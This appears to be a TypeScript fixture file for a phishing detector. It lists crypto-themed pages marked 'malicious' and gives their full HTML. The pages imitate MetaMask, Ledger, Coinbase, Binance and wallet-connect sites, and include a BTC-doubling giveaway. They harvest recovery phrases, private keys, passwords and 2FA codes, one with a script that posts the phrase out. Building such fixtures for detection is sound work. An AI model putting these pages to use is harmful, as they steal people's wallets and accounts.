import { malicious, type ImitationPage } from './imitation-page.ts';

/** Wallets, exchanges and giveaways. */
export const cryptoImitations: readonly ImitationPage[] = [
  malicious(
    'metamask-restore.example/import',
    'A wallet that asks for its twelve words in as many fields',
    'CRYPTO',
    'MetaMask',
    `<!DOCTYPE html><html><head><title>MetaMask</title></head><body><img src="metamask-fox.svg" alt="MetaMask"><h2>Import a wallet with your Secret Recovery Phrase</h2><form action="post.php" method="post">${Array.from({ length: 12 }, (_, i) => `<input name="word${i + 1}" type="password">`).join('')}<button>Confirm</button></form></body></html>`,
  ),
  malicious(
    'ledger-live-update.example/recover',
    'A maker of wallets: the device must be restored on the page',
    'CRYPTO',
    'Ledger',
    `<!DOCTYPE html><html><head><title>Ledger Live – Firmware update</title></head><body><header><img src="ledger-logo.svg" alt="Ledger"></header><h1>Restore your Ledger device</h1><p>A critical vulnerability was found. Enter your recovery phrase to migrate your wallet.</p><textarea name="phrase" placeholder="Enter your 24-word recovery phrase"></textarea><button>Restore wallet</button><script>document.querySelector('button').onclick=()=>fetch('/api/collect',{method:'POST',body:document.querySelector('textarea').value})</script></body></html>`,
  ),
  malicious(
    'walletconnect-dapp.example/validate',
    'Wallets of all kinds to be validated',
    'CRYPTO',
    null,
    `<!DOCTYPE html><html><head><title>DApp Resolver</title></head><body><h1>Synchronize wallet</h1><ul><li>MetaMask</li><li>Trust Wallet</li><li>Coinbase Wallet</li><li>Phantom</li><li>Exodus</li></ul><p>Error connecting. Connect manually: choose phrase, keystore or private key.</p><form action="https://submit-form.com/abcdef" method="post"><textarea name="phrase" placeholder="Enter recovery phrase. Typically 12 words separated by single spaces"></textarea><input name="key" placeholder="Private key"><button>IMPORT</button></form></body></html>`,
  ),
  malicious(
    'elon-x2.example/btc',
    'A famous person doubles what is sent',
    'CRYPTO',
    null,
    `<!DOCTYPE html><html><head><title>Official 5,000 BTC Giveaway</title></head><body><h1>5,000 BTC Giveaway</h1><p>To participate, send from 0.1 BTC to 10 BTC to the address below and get back double immediately.</p><code>bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh</code><p>Double your coins today. Rules: one address, one time. Bitcoin only.</p><div id="progress">Still left: 1,204 BTC</div></body></html>`,
  ),
  malicious(
    'coinbase-support-case.example/signin',
    'An exchange',
    'CRYPTO',
    'Coinbase',
    `<!DOCTYPE html><html><head><title>Coinbase - Sign In</title></head><body><img alt="Coinbase" src="cb.svg"><h1>Sign in to Coinbase</h1><form action="login" method="post"><input name="email" placeholder="Email"><input name="password" type="password" placeholder="Password"><input name="otp" placeholder="2FA code"><button>Continue</button></form></body></html>`,
  ),
  malicious(
    'claim-arb-drop.example/',
    'Tokens to be claimed with a wallet, and its words when that fails',
    'CRYPTO',
    null,
    `<!DOCTYPE html><html><head><title>Token Airdrop</title></head><body><h1>The airdrop is live</h1><p>Check your eligibility and claim your tokens before the window closes. Crypto holders only.</p><button id="c">Connect wallet</button><div id="m"><p>Wallet not detected. Import your wallet manually.</p><input placeholder="Secret recovery phrase (12 or 24 words)" name="srp"><button>Proceed</button></div></body></html>`,
  ),
  malicious(
    'binance-vhod.example/ru/login',
    'An exchange in Russian',
    'CRYPTO',
    'Binance',
    `<!DOCTYPE html><html lang="ru"><head><meta charset="utf-8"><title>Вход | Binance</title></head><body><svg aria-label="Binance" role="img"></svg><h1>Войти</h1><form><input placeholder="Эл. почта / номер телефона" name="email"><input type="password" name="p" placeholder="Пароль"><button>Далее</button></form></body></html>`,
  ),
];
